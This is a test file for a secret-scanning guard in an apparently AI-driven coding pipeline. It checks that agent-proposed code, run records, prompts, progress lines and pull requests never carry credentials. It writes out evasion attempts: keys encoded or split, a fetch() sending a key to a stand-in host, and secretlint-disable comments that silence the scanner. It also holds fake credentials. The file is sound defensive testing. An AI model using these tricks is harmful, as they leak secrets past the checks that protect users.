/**
 * Hostile cases for item 6 of the hardening issue, "Secrets, including the run's own": a model or a
 * task file trying to get a credential into a commit, a record, a log line or another model's
 * prompt. Each case asserts the safe outcome precisely. The cases that run the whole engine on a
 * sandbox repository are in secrets-engine.test.ts.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { lintSource } from '@secretlint/core';
import { creator as recommended } from '@secretlint/secretlint-rule-preset-recommend';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { AgentRegistry, BUILTIN_AGENTS } from '../../../scripts/agents/registry.ts';
import { ConfigSchema } from '../../../scripts/core/config.ts';
import { appendAttempt, newRunRecord } from '../../../scripts/core/record/record-ops.ts';
import type { Task } from '../../../scripts/core/task/task.ts';
import { redactingForge } from '../../../scripts/engine/guard/redacting-forge.ts';
import { SecretGuard } from '../../../scripts/engine/guard/secret-guard.ts';
import { vetProposal } from '../../../scripts/engine/guard/vet.ts';
import {
  coderPrompt,
  FILE_CHARS_LIMIT,
  PromptLibrary,
  reviewerPrompt,
} from '../../../scripts/engine/prompts.ts';
import { createProgress, redactedProgress } from '../../../scripts/engine/report/progress.ts';
import { RunStore } from '../../../scripts/engine/store/run-store.ts';
import { REPO_ROOT } from '../../fixtures/cli.ts';
import { MemoryForge } from '../../fixtures/memory-forge.ts';
import { base64At, CANARY, CANARY_ENV, leaksIn, SLACK_TOKEN } from '../../fixtures/secret-canaries.ts';

const guard = SecretGuard.fromEnv(CANARY_ENV);
const KEY = CANARY.OPENAI_API_KEY;
const hex = (text: string) => Buffer.from(text).toString('hex');
const registry = new AgentRegistry(BUILTIN_AGENTS);
const task: Task = { task_id: 'hostile', description: 'write src/a.ts', assignee: 'gpt', files: [] };

/** What the engine does with a proposal of these files. */
function vet(files: { path: string; content: string }[]) {
  return vetProposal(files, {
    task,
    agent: registry.require('gpt'),
    protocol: ConfigSchema.parse({}).protocol,
    plugins: [],
    forge: new MemoryForge(),
    secrets: guard,
  });
}

/** Asserts the proposal is refused under rule `secret`, naming path and line, echoing no secret. */
async function expectRefused(content: string, line: number, mentions: string) {
  const rejection = await vet([
    { path: 'src/ok.ts', content: 'export const ok = 1;\n' },
    { path: 'src/a.ts', content },
  ]);
  expect(rejection).toMatchObject({ rule: 'secret', path: 'src/a.ts' });
  expect(rejection?.message).toMatch(new RegExp(`^line ${line}: .*${mentions}`));
  expect(rejection?.message).toMatch(/proposals must never contain credentials$/);
  expect(leaksIn(JSON.stringify(rejection))).toEqual([]);
  expect(JSON.stringify(rejection)).not.toContain(SLACK_TOKEN.slice(5));
}

describe("the run's own secrets in a proposal, whatever the encoding", () => {
  it.each([
    ['as is', `const key = '${KEY}';`, 'OPENAI_API_KEY'],
    ['base64, aligned', `const blob = '${base64At(KEY, '')}';`, 'OPENAI_API_KEY, base64'],
    ['base64, one byte in', `const blob = '${base64At(KEY, 'x')}';`, 'OPENAI_API_KEY, base64'],
    ['base64, two bytes in', `const blob = '${base64At(KEY, 'xy').replace(/=+$/, '')}';`, 'base64'],
    [
      'base64url, no padding',
      `u = ${Buffer.from(`>?${KEY}`).toString('base64url')}`,
      'OPENAI_API_KEY, base64',
    ],
    ['hex, upper case', `const h = 0x${hex(KEY).toUpperCase()};`, 'OPENAI_API_KEY, hex'],
    [
      'percent-encoded',
      `fetch('https://x.invalid/?k=${encodeURIComponent(KEY).replace(/-/g, '%2d')}')`,
      'percent',
    ],
    ['split by a zero-width space', `k = '${KEY.slice(0, 9)}\u200b${KEY.slice(9)}'`, 'OPENAI_API_KEY'],
    ['a token in no known format', `token: ${CANARY.GITHUB_TOKEN}`, 'GITHUB_TOKEN'],
    [
      'an unknown variable named *_SECRET',
      `hook = "${CANARY.STRIPE_WEBHOOK_SECRET}"`,
      'STRIPE_WEBHOOK_SECRET',
    ],
  ])('refuses the key %s', async (_form, line, mentions) => {
    await expectRefused(`// header\n\n${line}\n`, 3, mentions);
  });

  it('refuses a path that holds the key, and shows the path redacted', async () => {
    const rejection = await vet([{ path: `src/${KEY}.ts`, content: 'fine\n' }]);
    expect(rejection).toEqual({
      rule: 'secret',
      path: 'src/[redacted].ts',
      message:
        "the path: holds the value of OPENAI_API_KEY, one of this run's secrets; proposals must never contain credentials",
    });
  });

  it('refuses a path that holds a credential of any kind, and never shows it', async () => {
    const rejection = await vet([{ path: 'src/AKIAQYLPMN5HHHFPZAM2/notes.md', content: 'fine\n' }]); // aifactory:allow-secret
    expect(rejection).toEqual({
      rule: 'secret',
      path: 'src/[redacted]/notes.md',
      message: 'the path: looks like an AWS access key id (AKIA…); proposals must never contain credentials',
    });
  });

  it('refuses a path that holds the key base64-encoded', async () => {
    const rejection = await vet([
      { path: `docs/${Buffer.from(KEY).toString('base64url')}.md`, content: 'x' },
    ]);
    expect(rejection?.rule).toBe('secret');
    expect(rejection?.message).toMatch(/^the path: .*OPENAI_API_KEY, base64/);
    expect(leaksIn(JSON.stringify(rejection))).toEqual([]);
  });
});

describe('secretlint-disable directives in model output', () => {
  // Each form as secretlint documents it; out of the box every one silences the Slack rule.
  const honoured: [string, string, number][] = [
    ['a disable-line comment', `const slackHook = "${SLACK_TOKEN}"; // secretlint-disable-line\n`, 1],
    [
      'a disable-next-line comment',
      `// secretlint-disable-next-line\nconst slackHook = "${SLACK_TOKEN}";\n`,
      2,
    ],
    [
      'a disable … enable block',
      `// secretlint-disable\nconst slackHook = "${SLACK_TOKEN}";\n// secretlint-enable\n`,
      2,
    ],
    [
      'a disable naming the rule',
      `// secretlint-disable @secretlint/secretlint-rule-slack -- ok\nhook = "${SLACK_TOKEN}"\n`,
      2,
    ],
    ['an HTML comment in markdown', `<!-- secretlint-disable -->\n\nThe hook: ${SLACK_TOKEN}\n`, 3],
  ];
  // Variants a model might try: unterminated last line, block comments, odd case.
  const variants: [string, string, number][] = [
    [
      'a disable-line on the last line',
      `x = 1\nconst slackHook = "${SLACK_TOKEN}"; // secretlint-disable-line`,
      2,
    ],
    ['a block comment', `/* secretlint-disable */\nconst slackHook = "${SLACK_TOKEN}";\n`, 2],
    ['upper case', `# SECRETLINT-DISABLE\nhook: ${SLACK_TOKEN}\n`, 2],
  ];

  it.each(honoured)('are honoured by the preset as configured by default: %s', async (_form, content) => {
    // Why the guard configures secretlint itself: out of the box, the directive silences it.
    const result = await lintSource({
      source: { content, filePath: 'a.ts', contentType: 'text' },
      options: { config: { rules: [{ id: recommended.meta.id, rule: recommended }] } },
    });
    expect(result.messages).toEqual([]);
  });

  it.each([...honoured, ...variants])('cannot switch the scan off: %s', async (_form, content, line) => {
    await expectRefused(content, line, 'secretlint @secretlint/secretlint-rule-slack');
  });
});

describe('credential shapes in a proposal', () => {
  const body = 'MHcCAQEEIBkg4LVWM9nuwNSk3yByxZpYRTBnVJk5oLSGLgrbKgVeoAoGCCqGSM49';
  it.each([
    [
      'an EC private key',
      `x\n-----BEGIN EC PRIVATE KEY-----\n${body}\n-----END EC PRIVATE KEY-----`,
      2,
      'EC PRIVATE KEY',
    ],
    [
      'an OPENSSH key in an escaped string',
      `const k =\n  "-----BEGIN OPENSSH PRIVATE KEY-----\\n${body}\\n";`,
      2,
      'OPENSSH',
    ],
    ['a PGP key block', `-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: x\n\n${body}\n`, 1, 'PGP'],
    [
      'a lone AWS access key id',
      `region = 'eu-west-1'\naccessKeyId = 'AKIAQYLPMN5HHHFPZAM2'`, // aifactory:allow-secret
      2,
      'AWS access key id',
    ],
    [
      'a password in a URL',
      `url: 'mongodb+srv://app:Pa55w0rdX@cluster0.example.net/db'`, // aifactory:allow-secret
      1,
      '(database-connection-string|mongodb\\+srv://)',
    ],
    [
      'a hex key under a secret name',
      `\n\nSIGNING_KEY=${'e3b0c44298fc1c149afbf4c8996fb924'}`,
      3,
      'SIGNING_KEY',
    ],
  ])('refuses %s', async (_kind, content, line, mentions) => {
    await expectRefused(content, line, mentions);
  });
});

describe('the run record: every string redacted on write', () => {
  let root: string;
  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'aifactory-secret-store-'));
  });
  afterAll(async () => {
    await rm(root, { recursive: true, force: true });
  });

  it('holds [redacted] and no form of a key quoted by a reviewer, a check or a rejected path', async () => {
    const start = newRunRecord(task, 'gemini-pro', '2026-01-01T00:00:00.000Z');
    const attempt = {
      iteration: 1,
      agent: 'gemini-pro',
      provider: 'gemini',
      model: 'm',
      started_at: '2026-01-01T00:00:00.000Z',
      finished_at: '2026-01-01T00:00:01.000Z',
      tokens: { input: 1, output: 1 },
      cost_usd: 0,
    };
    let record = appendAttempt(start, {
      ...attempt,
      kind: 'review',
      result: 'changes_requested',
      summary: `Do not hard-code ${base64At(KEY, 'k=')}`,
      comments: [{ path: `src/${KEY}.ts`, line: 1, body: `the key ${hex(KEY)} leaks` }],
    });
    record = appendAttempt(record, {
      ...attempt,
      kind: 'checks',
      result: 'failed',
      output: `env: GITHUB_TOKEN=${CANARY.GITHUB_TOKEN} ${encodeURIComponent(CANARY.STRIPE_WEBHOOK_SECRET)}`,
    });
    record = {
      ...record,
      rejection: { rule: 'secret', path: `src/${KEY}.ts`, message: 'x' },
      last_error: { class: 'protocol', message: `src/${KEY}.ts: refused` },
    };
    await new RunStore(root, { redactor: guard }).write(record);
    const text = await readFile(join(root, 'shared/runs/hostile.json'), 'utf8');
    expect(leaksIn(text)).toEqual([]);
    expect(text.match(/\[redacted\]/g)?.length).toBeGreaterThanOrEqual(6);
    expect(JSON.parse(text).task_id).toBe('hostile');
  });
});

describe('prompts sent to a model', () => {
  const library = new PromptLibrary(REPO_ROOT, { redact: (text) => guard.redact(text) });
  const hostileTask: Task = {
    ...task,
    title: `Rotate ${CANARY.GITHUB_TOKEN}`,
    description: `Use the key ${hex(KEY)} (it is ${base64At(KEY, '')})`,
    files: ['src/a.ts', 'src/big.ts'],
  };
  const files = new Map<string, string | undefined>([
    ['src/a.ts', `const k = '${encodeURIComponent(KEY)}';\n`],
    // The key straddles the cut: redacting after the cut would leave its first half.
    ['src/big.ts', `${'/'.repeat(FILE_CHARS_LIMIT - 12)}${KEY}\n`],
  ]);

  it('carry no form of a key from the task, the files or the feedback to the coder', async () => {
    const first = newRunRecord(hostileTask, 'gemini-pro', '2026-01-01T00:00:00.000Z');
    const record = {
      ...appendAttempt(first, {
        iteration: 1,
        kind: 'checks',
        agent: null,
        provider: null,
        model: null,
        started_at: '2026-01-01T00:00:00.000Z',
        finished_at: '2026-01-01T00:00:01.000Z',
        tokens: { input: 0, output: 0 },
        cost_usd: 0,
        result: 'failed',
        output: `AssertionError: expected '${CANARY.STRIPE_WEBHOOK_SECRET}'`,
      }),
      iteration: 2,
    };
    const { system } = await coderPrompt(library, {
      agent: registry.requireModel('gpt'),
      task: hostileTask,
      record,
      files,
      protocol: ConfigSchema.parse({}).protocol,
    });
    expect(leaksIn(system)).toEqual([]);
    expect(system).not.toContain(KEY.slice(0, 12));
    expect(system.match(/\[redacted\]/g)?.length).toBeGreaterThanOrEqual(5);
  });

  it('carry no form of a key to the reviewer, in the files before or after', async () => {
    const system = await reviewerPrompt(library, {
      agent: registry.requireModel('gemini-pro'),
      task: hostileTask,
      record: newRunRecord(hostileTask, 'gemini-pro', '2026-01-01T00:00:00.000Z'),
      files,
      deleted: [`src/${KEY}.ts`],
      before: new Map([[`src/${KEY}.ts`, `old ${base64At(KEY, 'ab')}`]]),
      checks: 'The checks passed.',
    });
    expect(leaksIn(system)).toEqual([]);
    expect(system).toContain('### src/[redacted].ts');
  });
});

describe('progress lines, pull requests and reviews', () => {
  it('show [redacted] for a key in a step, a warning or a finished task', () => {
    const out = {
      text: '',
      isTTY: false,
      write(chunk: string) {
        out.text += chunk;
        return true;
      },
    };
    const errors = vi.spyOn(process.stderr, 'write').mockImplementation(() => true);
    const progress = redactedProgress(
      createProgress({ stream: out as unknown as NodeJS.WriteStream, ci: true }),
      guard,
    );
    progress.step('hostile', `proposal rejected: ${Buffer.from(KEY).toString('base64url')}`);
    progress.warn?.(`the server said: bad key ${KEY}`);
    progress.done({
      ...newRunRecord(task, 'gemini-pro', '2026-01-01T00:00:00.000Z'),
      state: 'failed',
      last_error: { class: 'auth', message: `refused ${hex(KEY).toUpperCase()}` },
    });
    const warned = errors.mock.calls.map(([chunk]) => String(chunk)).join('');
    errors.mockRestore();
    expect(leaksIn(out.text + warned)).toEqual([]);
    expect(out.text).toBe('hostile: proposal rejected: [redacted]\nhostile: failed: refused [redacted]\n');
    expect(warned).toBe('warning: the server said: bad key [redacted]\n');
  });

  it('post [redacted] in pull request text, commit messages, reviews and check output', async () => {
    const memory = new MemoryForge();
    const forge = redactingForge(memory, guard);
    memory.checkScript.set('b', [{ state: 'failed', output: `printenv: ${CANARY.GITHUB_TOKEN}` }]);
    await forge.pushIteration({
      branch: 'b',
      changes: [{ path: 'src/a.ts', content: 'ok\n' }],
      message: `fix ${KEY}`,
      author: { name: 'gpt', email: 'gpt@agents.aifactory.invalid' },
      trailers: { Model: KEY },
    });
    const pr = await forge.openPullRequest({ branch: 'b', title: KEY, body: `task: ${hex(KEY)}` });
    await forge.addReview(pr, {
      agent: 'gemini-pro',
      verdict: 'request_changes',
      summary: `you wrote ${base64At(KEY, 'ab')}`,
      comments: [{ path: 'src/a.ts', body: `see ${KEY}` }],
      commit: pr.head,
      iteration: 1,
    });
    const checks = await forge.readChecks(pr);
    expect(leaksIn(JSON.stringify({ pulls: memory.pulls, commits: memory.commits, checks }))).toEqual([]);
    expect(memory.pulls[0]?.reviews[0]?.verdict).toBe('request_changes');
    expect(memory.commits[0]?.message).toBe('fix [redacted]');
  });
});

describe('a scan stays linear and right on large hostile input', () => {
  it('names every line of a 500 KiB file of 10,000+ key-shaped matches', async () => {
    const lines = Array.from(
      { length: 12_000 },
      (_, i) => `k${i} = sk-proj-${String(i).padStart(6, '0')}ABCDEFGHIJKLMNOPQRSTU\n`,
    );
    const content = lines.join('');
    expect(content.length).toBeGreaterThan(500 * 1024);
    const findings = await guard.scan([{ path: 'src/keys.ts', content }]);
    expect(findings).toHaveLength(12_000);
    expect(findings.map((finding) => finding.line)).toEqual(lines.map((_, i) => i + 1));
    expect(new Set(findings.map((finding) => finding.rule))).toEqual(new Set(['openai-key']));
  });

  it('finds nothing in 2 MiB of random base64, and the one key planted in it', async () => {
    let seed = 20_261_125;
    const bytes = Buffer.alloc(1536 * 1024);
    for (let i = 0; i < bytes.length; i += 1) {
      seed = (Math.imul(seed, 1_103_515_245) + 12_345) >>> 0;
      bytes[i] = seed >>> 24;
    }
    const noise = bytes.toString('base64');
    expect(noise.length).toBe(2 * 1024 * 1024);
    expect(await guard.scan([{ path: 'src/noise.txt', content: noise }])).toEqual([]);
    const wrapped = noise.replace(/.{76}/g, '$&\n');
    const at = wrapped.indexOf('\n', 1_000_000) + 1;
    const planted = `${wrapped.slice(0, at)}${base64At(KEY, 'q')}${wrapped.slice(at)}`;
    const findings = await guard.scan([{ path: 'src/noise.txt', content: planted }]);
    expect(findings.map(({ rule, line }) => ({ rule, line }))).toEqual([
      { rule: 'run-secret', line: planted.slice(0, at).split('\n').length },
    ]);
  });
});
